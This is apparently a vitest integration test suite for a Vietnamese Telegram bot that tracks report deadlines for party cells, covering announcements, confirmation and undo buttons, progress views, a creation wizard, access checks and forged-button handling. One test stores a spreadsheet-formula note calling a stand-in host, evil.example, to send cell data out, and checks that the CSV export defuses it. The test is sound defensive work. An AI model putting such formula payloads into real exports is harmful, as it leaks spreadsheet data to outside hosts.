import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { StoredMessage } from '../../src/emulator/botApiEmulator.js';
import { buttonsOf, Chat } from '../helpers/chat.js';
import { cli } from '../helpers/cli.js';
import { startHarness, type Harness } from '../helpers/harness.js';
import { outboxDrained } from '../helpers/outbox.js';
import { ROSTER, personId, setupOrg, unitId, user, type Who } from '../helpers/roster.js';

describe('deadlines in chat', () => {
  let h: Harness;
  const run = (...argv: string[]) => cli(h.database, h.config, argv, h.clock);

  beforeAll(async () => {
    h = await startHarness({ now: '2026-12-30T09:00' });
    await setupOrg(h.database, h.config);
  });
  afterAll(() => h?.stop());

  const chat = (who: Who) => Chat.of(() => h, who);

  /** Sends a text as `who` and returns the bot's next message to them. */
  const say = (who: Who, text: string): Promise<StoredMessage> => chat(who).say(text);

  /** Presses a button of `msg` as `who`; returns the popup text and, if `reply`, the next message. */
  async function press(
    who: Who,
    msg: StoredMessage,
    data: string,
    reply = true,
    force = false,
  ): Promise<{ popup: string | undefined; next?: StoredMessage }> {
    const { answer, message } = await chat(who).press(data, force ? { force: msg, reply } : { on: msg, reply });
    return reply ? { popup: answer.text, next: message } : { popup: answer.text };
  }

  it('announces a deadline for three chi bộ at once; "Đã nộp" stops that unit and shows in status and /hanchot', async () => {
    const created = await run(
      'deadline',
      'add',
      '--title',
      'Báo cáo kế hoạch thực hiện Nghị quyết Đại hội',
      '--due',
      '31/12/2026',
      '--units',
      'CB1-BTG,CB2-BTG,CB3-BTG',
      '--doc',
      '65-CV/BTGQU',
      '--by',
      ROSTER.binh.phone,
    );
    expect(created.code, created.err).toBe(0);
    const id = Number(created.out.split('\n')[0]);
    const cb1 = await unitId(h.database, 'CB1-BTG');
    const cb3 = await unitId(h.database, 'CB3-BTG');

    const [toLan] = await h.emulator.waitForMessages(ROSTER.lan.tg, 1);
    for (const who of ['hanh', 'hung', 'long'] as const) await h.emulator.waitForMessages(ROSTER[who].tg, 1);
    expect(toLan!.plainText).toContain('Hạn báo cáo mới');
    expect(toLan!.plainText).toContain('Đơn vị: Chi bộ 3 (Văn phòng Ban) (CB3-BTG)');
    expect(toLan!.plainText).toContain('Hạn: trước 23:59 Thứ Năm, 31/12/2026 (còn 1 ngày, hạn là ngày mai)');
    expect(toLan!.plainText).toContain('Văn bản: 65-CV/BTGQU');
    expect(buttonsOf(toLan!).map((b) => [b.text, b.callback_data])).toEqual([
      ['✅ Đã nộp', `dl:done:${id}:${cb3}`],
      ['Chi tiết', `dl:info:${id}:${cb3}`],
    ]);

    // Lan presses "Đã nộp": she is answered directly, Long (phó bí thư) is told through the outbox.
    const { popup, next } = await press('lan', toLan!, `dl:done:${id}:${cb3}`);
    expect(popup).toBe('Đã ghi nhận');
    expect(next!.plainText).toContain('Đã ghi nhận: Chi bộ 3 (Văn phòng Ban) (CB3-BTG) đã nộp');
    expect(buttonsOf(next!).map((b) => b.callback_data)).toEqual([`dl:undo:${id}:${cb3}`]);
    const [, toLong] = await h.emulator.waitForMessages(ROSTER.long.tg, 2);
    expect(toLong!.plainText).toContain('Đơn vị đã báo cáo');
    expect(toLong!.plainText).toContain('đồng chí Huỳnh Thị Lan ghi nhận');

    // The next text is kept as the report's note.
    expect((await say('lan', 'https://drive.example.vn/bao-cao-cb3.pdf')).plainText).toContain('Đã lưu ghi chú');

    const status = await run('deadline', 'status', String(id));
    expect(status.out).toContain('Đã báo cáo: 1/3');
    expect(status.out).toMatch(/CB3-BTG .*Huỳnh Thị Lan .*bao-cao-cb3\.pdf/);

    // Pressing again (Long, on his announcement) says who reported already.
    const longFirst = h.emulator.messagesTo(ROSTER.long.tg)[0]!;
    const again = await press('long', longFirst, `dl:done:${id}:${cb3}`);
    expect(again.next!.plainText).toContain('đã được ghi nhận nộp');
    expect(again.next!.plainText).toContain('Huỳnh Thị Lan');

    // /hanchot: reported for Lan, pending with a button for Hạnh.
    const lanList = await say('lan', '/hanchot');
    expect(lanList.plainText).toContain('Báo cáo kế hoạch thực hiện Nghị quyết Đại hội');
    expect(lanList.plainText).toMatch(/✅ Đã nộp 09:\d\d 30\/12\/2026 \(Huỳnh Thị Lan\)/);
    const hanhList = await say('hanh', '/hanchot');
    expect(hanhList.plainText).toContain('⏳ Chưa nộp');
    expect(hanhList.plainText).toContain('còn 1 ngày');
    expect(buttonsOf(hanhList).map((b) => b.callback_data)).toEqual([`dl:done:${id}:${cb1}`]);

    // Tomorrow's reminder goes to CB1 and CB2 only.
    const before = {
      hanh: 2,
      hung: 1,
      lan: h.emulator.messagesTo(ROSTER.lan.tg).length,
      long: h.emulator.messagesTo(ROSTER.long.tg).length,
    };
    await h.at('2026-12-31T08:00');
    expect((await h.emulator.waitForMessages(ROSTER.hanh.tg, before.hanh + 1)).at(-1)!.plainText).toContain('Hôm nay là hạn chót');
    await h.emulator.waitForMessages(ROSTER.hung.tg, before.hung + 1);
    const keys = await h.db.outboxMessage.findMany({ where: { dedupeKey: { startsWith: `deadline:${id}:`, contains: ':d-0:' } } });
    expect(keys).toHaveLength(2);
    expect(h.emulator.messagesTo(ROSTER.lan.tg)).toHaveLength(before.lan);
    expect(h.emulator.messagesTo(ROSTER.long.tg)).toHaveLength(before.long);

    // Lan's undo is refused the next day.
    const lanConfirm = h.emulator.messagesTo(ROSTER.lan.tg).find((m) => m.plainText.includes('Đã ghi nhận:'))!;
    expect((await press('lan', lanConfirm, `dl:undo:${id}:${cb3}`, false)).popup).toContain('trong ngày');
  });

  it('records with /danop, lets the reporter undo the same day, and refuses others', async () => {
    await h.at('2026-12-31T09:00');
    const created = await run('deadline', 'add', '--title', 'Báo cáo sơ kết năm', '--due', '05/01/2027', '--units', 'CB2-BTG,CB1-MT');
    const id = Number(created.out.split('\n')[0]);
    const cb2 = await unitId(h.database, 'CB2-BTG');
    await h.emulator.waitUntil(() => h.emulator.messagesTo(ROSTER.hung.tg).some((m) => m.plainText.includes('Báo cáo sơ kết năm')));

    // Hùng has two deadlines open (this one and the one above): /danop asks which.
    const choose = await say('hung', '/danop');
    expect(choose.plainText).toContain('hạn nào');
    expect(buttonsOf(choose).map((b) => b.callback_data)).toContain(`dl:done:${id}:${cb2}`);
    const done = await press('hung', choose, `dl:done:${id}:${cb2}`);
    expect(done.next!.plainText).toContain('Đã ghi nhận: Chi bộ 2');
    expect((await run('deadline', 'status', String(id), '--json')).out).toContain('"reported": 1');

    // Ngọc (CB1-MT) cannot record for CB2; Hạnh cannot undo Hùng's record.
    const toNgoc = await h.emulator.waitUntil(() =>
      h.emulator.messagesTo(ROSTER.ngoc.tg).find((m) => m.plainText.includes('Báo cáo sơ kết năm')),
    );
    expect((await press('ngoc', toNgoc, `dl:done:${id}:${cb2}`, true, true)).next!.plainText).toContain('Chỉ bí thư, phó bí thư');
    const q2 = h.emulator.pressButton(user('hanh'), h.emulator.lastMessage(ROSTER.hanh.tg)!, `dl:undo:${id}:${cb2}`, { force: true });
    expect((await h.emulator.waitForCallbackAnswer(q2)).text).toBe('Chỉ người đã ghi nhận mới hoàn tác được.');

    // Hùng undoes: the record is gone and the message says so.
    const undo = done.next!;
    await press('hung', undo, `dl:undo:${id}:${cb2}`, false);
    await h.emulator.waitUntil(() => undo.plainText.includes('Đã hủy xác nhận'));
    expect((await run('deadline', 'status', String(id), '--json')).out).toContain('"reported": 0');
    const audit = await h.db.auditLog.findMany({ where: { target: { startsWith: `deadline:${id}` } }, orderBy: { id: 'asc' } });
    // Ngọc's forged «Đã nộp» and Hạnh's undo of Hùng's record are kept as refused attempts.
    expect(audit.map((a) => a.action)).toEqual([
      'deadline.create',
      'deadline.report',
      'denied:deadlines.report',
      'denied:deadlines.undo',
      'deadline.report_undo',
    ]);
    expect(audit.filter((a) => a.action.startsWith('denied:')).map((a) => [a.actorId, a.target])).toEqual([
      [await personId(h.database, 'ngoc'), `deadline:${id}:unit:CB2-BTG`],
      [await personId(h.database, 'hanh'), `deadline:${id}:unit:CB2-BTG`],
    ]);

    // /danop with a note when only one is left for Ngọc: recorded at once.
    const ngocDone = await say('ngoc', '/danop Đã gửi qua email văn phòng');
    expect(ngocDone.plainText).toContain('Đã ghi nhận: Chi bộ 1 (Ban Dân chủ – Pháp luật)');
    const row = await h.db.deadlineUnit.findFirstOrThrow({ where: { deadlineId: id, unitId: await unitId(h.database, 'CB1-MT') } });
    expect(row.note).toBe('Đã gửi qua email văn phòng');
    expect(row.reportedById).toBe(await personId(h.database, 'ngoc'));
  });

  it('shows progress in /tiendo to leaders and creators, each over their subtree', async () => {
    await h.at('2027-01-01T10:00');
    // The morning digest comes first (the bot "started" at 10:00 and catches up).
    for (const who of ['dung', 'binh'] as const) {
      const digest = await h.emulator.waitUntil(() =>
        h.emulator.messagesTo(ROSTER[who].tg).find((m) => m.plainText.includes('Đơn vị chậm báo cáo')),
      );
      expect(digest.plainText).toContain('Chi bộ 2 (Phòng Lý luận chính trị) (CB2-BTG) — Bí thư Đặng Văn Hùng, 0913 222 444');
      expect(digest.plainText).not.toContain('CB3-BTG');
    }
    const dung = await say('dung', '/tiendo');
    expect(dung.plainText).toContain('Tiến độ báo cáo');
    expect(dung.plainText).toContain('Báo cáo kế hoạch thực hiện Nghị quyết Đại hội');
    expect(dung.plainText).toContain('Đã nộp: 1/3');
    // Issue 13 #15: the hint shows a real example instead of "/tiendo <số>".
    expect(dung.plainText).toMatch(/ví dụ \/tiendo \d+\./);
    expect(dung.plainText).not.toContain('<số>');
    expect(dung.plainText).toMatch(/Quá hạn, chưa nộp \(2\): Chi bộ 1 \(Phòng Tuyên truyền\) \(CB1-BTG\), Chi bộ 2/);
    expect(dung.plainText).toMatch(/Chi bộ 3 \(Văn phòng Ban\) \(CB3-BTG\) — Huỳnh Thị Lan, 09:\d\d 30\/12\/2026/);
    // Issue 13 #4: Dũng is also cấp ủy viên of DBK, so /tiendo counts all of DBK, as /tonghop does:
    // the second deadline's CB1-MT is his too.
    expect(dung.plainText).toMatch(/Báo cáo sơ kết năm[^]*Đã nộp: 1\/2/);
    const binh = await say('binh', '/tiendo');
    expect(binh.plainText).toContain('Báo cáo kế hoạch thực hiện Nghị quyết Đại hội'); // he created it (--by)
    // A chi bộ's bí thư follows her own chi bộ (issue 13 #4), nothing of the others.
    const hanh = await say('hanh', '/tiendo');
    expect(hanh.plainText).toContain('Tiến độ báo cáo');
    expect(hanh.plainText).not.toContain('CB2-BTG');

    const { id } = await h.db.deadline.findFirstOrThrow({ where: { title: 'Báo cáo kế hoạch thực hiện Nghị quyết Đại hội' } });
    const one = await say('dung', `/tiendo ${id}`);
    expect(one.plainText).toContain(`Báo cáo kế hoạch thực hiện Nghị quyết Đại hội (hạn số ${id})`);
    expect(one.plainText).toContain('Đã nộp: 1/3');
    const other = await h.db.deadline.findFirstOrThrow({ where: { title: 'Báo cáo sơ kết năm' } });
    expect((await say('dung', `/tiendo ${other.id}`)).plainText).toContain('Đã nộp: 1/2'); // CB2-BTG, and CB1-MT as cấp ủy viên DBK
    expect((await say('dung', '/tiendo 99999')).plainText).toContain('Không có hạn báo cáo số 99999');

    // "Chi tiết" on Hạnh's announcement: the deadline, her unit's status and the reminder days.
    const announcement = h.emulator.messagesTo(ROSTER.hanh.tg)[0]!;
    const info = await press('hanh', announcement, `dl:info:${id}:${await unitId(h.database, 'CB1-BTG')}`);
    expect(info.next!.plainText).toContain('Chi tiết hạn báo cáo');
    expect(info.next!.plainText).toContain('Chi bộ 1 (Phòng Tuyên truyền) (CB1-BTG): ⚠️ Chưa nộp, đã quá hạn');
    expect(info.next!.plainText).toContain('Nhắc hạn: 31/12, lúc 08:00');
    // Hạnh sees her own unit only, so the count is of the units within her reach (L3).
    expect(info.next!.plainText).toContain('Các đơn vị thuộc phạm vi của đồng chí đã nộp: 0/1');
    // Dũng supervises all three units: he sees the whole count and any unit's status.
    const dungInfo = await press(
      'dung',
      h.emulator.lastMessage(ROSTER.dung.tg)!,
      `dl:info:${id}:${await unitId(h.database, 'CB3-BTG')}`,
      true,
      true,
    );
    expect(dungInfo.next!.plainText).toMatch(/CB3-BTG\): ✅ Đã nộp 09:\d\d 30\/12\/2026 \(Huỳnh Thị Lan\)/);
    expect(dungInfo.next!.plainText).toContain('Các đơn vị đã nộp: 1/3');
  });

  it('speaks English to a person who chose it', async () => {
    await outboxDrained(h.db); // the morning's overdue notices first, so the reply below is /hanchot's
    const hung = await personId(h.database, 'hung');
    await h.db.person.update({ where: { id: hung }, data: { locale: 'en' } });
    const list = await say('hung', '/hanchot');
    expect(list.plainText).toContain('Report deadlines of your units');
    expect(list.plainText).toMatch(/Due: before 23:59 Thursday, 31\/12\/2026 \(\d+ days? overdue\)/);
    await h.db.person.update({ where: { id: hung }, data: { locale: 'vi' } });
  });

  it('creates a deadline with /hanmoi after a preview, refusing bad input step by step', async () => {
    await h.at('2027-01-02T09:00');
    await outboxDrained(h.db); // the morning's digests first, so replies below are the flow's
    expect((await say('hanh', '/hanmoi')).plainText).toContain('chỉ dành cho đồng chí có vai trò phù hợp');

    expect((await say('binh', '/hanmoi')).plainText).toContain('bước 1/4');
    expect((await say('binh', 'Báo cáo kết quả học tập Nghị quyết')).plainText).toContain('Bước 2/4');
    expect((await say('binh', '31/02/2027')).plainText).toContain('Ngày «31/02/2027» không hợp lệ');
    expect((await say('binh', '01/01/2027')).plainText).toContain('đã qua');
    const units = await say('binh', '15/01 lúc 17:00'); // no year: the next 15/01
    expect(units.plainText).toContain('Bước 3/4');
    expect(units.plainText).toContain('CB1-BTG — Chi bộ 1 (Phòng Tuyên truyền)');
    expect((await say('binh', 'CB1-BTG, KHONGCO')).plainText).toContain('Không có đơn vị mã «KHONGCO»');
    const extra = await press('binh', units, 'dl:nu:cb');
    expect(extra.next!.plainText).toContain('Bước 4/4');
    expect((await say('binh', '65-CV/BTGQU ftp://files.example/a.doc')).plainText).toContain('chỉ nhận địa chỉ bắt đầu bằng http');
    const preview = await say('binh', '65-CV/BTGQU https://tuyengiao.example.vn/tai-lieu');
    expect(preview.plainText).toContain('Xem lại trước khi gửi');
    expect(preview.plainText).toContain('trước 17:00 Thứ Sáu, 15/01/2027');
    expect(preview.plainText).toContain('Đơn vị (5)');
    expect(preview.plainText).toContain('Nhắc hạn: 08/01, 12/01, 14/01, 15/01, lúc 08:00');
    expect(await h.db.deadline.count({ where: { title: 'Báo cáo kết quả học tập Nghị quyết' } })).toBe(0);

    const phucBefore = h.emulator.messagesTo(ROSTER.phuc.tg).length;
    await press('binh', preview, 'dl:nok', false);
    await h.emulator.waitUntil(() => preview.plainText.includes('Đã tạo hạn báo cáo #'));
    const d = await h.db.deadline.findFirstOrThrow({ where: { title: 'Báo cáo kết quả học tập Nghị quyết' }, include: { units: true } });
    expect(d.units).toHaveLength(5);
    expect(d.createdById).toBe(await personId(h.database, 'binh'));
    expect(d.docNumber).toBe('65-CV/BTGQU');
    expect(d.link).toBe('https://tuyengiao.example.vn/tai-lieu');
    const ann = (await h.emulator.waitForMessages(ROSTER.phuc.tg, phucBefore + 1)).at(-1)!;
    expect(ann.plainText).toContain('Báo cáo kết quả học tập Nghị quyết');
    // A second press of the same button does nothing.
    const again = h.emulator.pressButton(user('binh'), preview, 'dl:nok', { force: true });
    expect((await h.emulator.waitForCallbackAnswer(again)).text).toContain('đã kết thúc');
    expect(await h.db.deadline.count({ where: { title: 'Báo cáo kết quả học tập Nghị quyết' } })).toBe(1);
  });

  it("refuses units outside the creator's subtree", async () => {
    const ngoc = await personId(h.database, 'ngoc');
    await h.db.roleAssignment.create({ data: { personId: ngoc, unitId: await unitId(h.database, 'CB1-MT'), role: 'van_phong' } });
    await say('ngoc', '/hanmoi Báo cáo chuyên đề');
    await say('ngoc', '20/01/2027');
    expect((await say('ngoc', 'CB1-BTG')).plainText).toContain('không thuộc phạm vi của đồng chí');
    expect((await say('ngoc', '/huy')).plainText).toContain('Đã hủy');
  });

  it('exports a note typed as a spreadsheet formula as text in deadline status --csv (M6)', async () => {
    await outboxDrained(h.db);
    const created = await run(
      'deadline',
      'add',
      '--title',
      'Báo cáo công tác dân vận quý I',
      '--due',
      '25/01/2027',
      '--units',
      'CB1-BTG,CB1-MT',
      '--doc',
      '3080-CV/BTGTU',
      '--by',
      ROSTER.binh.phone,
    );
    expect(created.code, created.err).toBe(0);
    const id = Number(created.out.split('\n')[0]);
    const cb1 = await unitId(h.database, 'CB1-BTG');
    const toHanh = await h.emulator.waitUntil(() =>
      h.emulator.messagesTo(ROSTER.hanh.tg).find((m) => m.plainText.includes('Báo cáo công tác dân vận quý I')),
    );
    await h.emulator.waitUntil(() =>
      h.emulator.messagesTo(ROSTER.ngoc.tg).find((m) => m.plainText.includes('Báo cáo công tác dân vận quý I')),
    );

    // Hạnh reports and types a spreadsheet formula as the note (M6).
    const formula = '=HYPERLINK("https://evil.example/?d="&A1,"Chi tiết")';
    await press('hanh', toHanh, `dl:done:${id}:${cb1}`);
    expect((await say('hanh', formula)).plainText).toContain('Đã lưu ghi chú');
    const csv = await run('deadline', 'status', String(id), '--csv');
    expect(csv.code, csv.err).toBe(0);
    const line = csv.out.split('\n').find((l) => l.startsWith('CB1-BTG,'))!;
    expect(line.endsWith(`,"'=HYPERLINK(""https://evil.example/?d=""&A1,""Chi tiết"")"`)).toBe(true);
    // The note's edit is audited with its value before and after.
    const noteAudit = await h.db.auditLog.findFirstOrThrow({
      where: { action: 'deadline.report_note', target: `deadline:${id}:unit:CB1-BTG` },
    });
    expect(noteAudit.details).toEqual({ before: null, after: formula });
  });

  it("shows «Chi tiết» of a shared deadline only for the viewer's own units (L3)", async () => {
    const { id } = await h.db.deadline.findFirstOrThrow({ where: { title: 'Báo cáo công tác dân vận quý I' } });
    const cb1 = await unitId(h.database, 'CB1-BTG');
    const mt = await unitId(h.database, 'CB1-MT');
    const toNgoc = h.emulator.messagesTo(ROSTER.ngoc.tg).find((m) => m.plainText.includes('Báo cáo công tác dân vận quý I'))!;
    // F4: Ngọc (CB1-MT) forges «Chi tiết» for CB1-BTG: the deadline, but not Hạnh's report.
    const forged = await press('ngoc', toNgoc, `dl:info:${id}:${cb1}`, true, true);
    expect(forged.next!.plainText).toContain('Báo cáo công tác dân vận quý I');
    expect(forged.next!.plainText).not.toContain('Võ Thị Hạnh');
    expect(forged.next!.plainText).not.toContain('CB1-BTG');
    expect(forged.next!.plainText).toContain('Các đơn vị thuộc phạm vi của đồng chí đã nộp: 0/1');
    expect(buttonsOf(forged.next!)).toEqual([]);
    const denied = await h.db.auditLog.findMany({ where: { action: 'denied:deadlines.info', target: `deadline:${id}:unit:${cb1}` } });
    expect(denied.map((a) => a.actorId)).toEqual([await personId(h.database, 'ngoc')]);
    // Her own unit's button still shows her unit.
    const own = await press('ngoc', toNgoc, `dl:info:${id}:${mt}`);
    expect(own.next!.plainText).toContain('Chi bộ 1 (Ban Dân chủ – Pháp luật) (CB1-MT): ⏳ Chưa nộp');
    expect(buttonsOf(own.next!).map((b) => b.callback_data)).toEqual([`dl:done:${id}:${mt}`]);
    // Bình created it: every unit and the whole count.
    const binh = await press('binh', h.emulator.lastMessage(ROSTER.binh.tg)!, `dl:info:${id}:${cb1}`, true, true);
    expect(binh.next!.plainText).toContain('CB1-BTG): ✅ Đã nộp');
    expect(binh.next!.plainText).toContain('Võ Thị Hạnh');
    expect(binh.next!.plainText).toContain('Các đơn vị đã nộp: 1/2');
    // Phúc (CBCS-HLH) is not concerned at all.
    const phuc = await press('phuc', h.emulator.lastMessage(ROSTER.phuc.tg)!, `dl:info:${id}`, true, true);
    expect(phuc.next!.plainText).toContain('Hạn báo cáo này không còn');
  });

  it('answers forged or stale buttons with the "stale button" popup and nothing else', async () => {
    await outboxDrained(h.db);
    const { id } = await h.db.deadline.findFirstOrThrow({ where: { title: 'Báo cáo công tác dân vận quý I' } });
    const msg = h.emulator.lastMessage(ROSTER.ngoc.tg)!;
    const before = h.emulator.messagesTo(ROSTER.ngoc.tg).length;
    for (const data of [
      'dl:info',
      'dl:info:abc',
      `dl:info:${id}:x`,
      'dl:done:1',
      'dl:done:0:1',
      `dl:done:${id}:1e3`,
      'dl:done:99999999999:1',
      `dl:undo:${id}:1:2`,
      'dl:nu:zzz',
      'dl:nok:1',
      'dl:bogus',
      'dl:',
    ]) {
      const q = h.emulator.pressButton(user('ngoc'), msg, data, { force: true });
      expect((await h.emulator.waitForCallbackAnswer(q)).text, data).toBe('Nút này đã cũ, vui lòng gõ lại lệnh.');
    }
    expect((await say('ngoc', '/hanchot')).plainText).toContain('Hạn báo cáo của đơn vị đồng chí');
    expect(h.emulator.messagesTo(ROSTER.ngoc.tg)).toHaveLength(before + 1);
  });
});
